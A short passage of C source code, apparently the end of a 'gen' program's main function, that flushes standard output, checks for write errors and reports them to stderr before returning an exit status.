    out_flush();
    if (fflush(stdout) != 0 || ferror(stdout)) {
        fprintf(stderr, "gen: write error: %s\n", strerror(errno));
        return 1;
    }
    return 0;
}
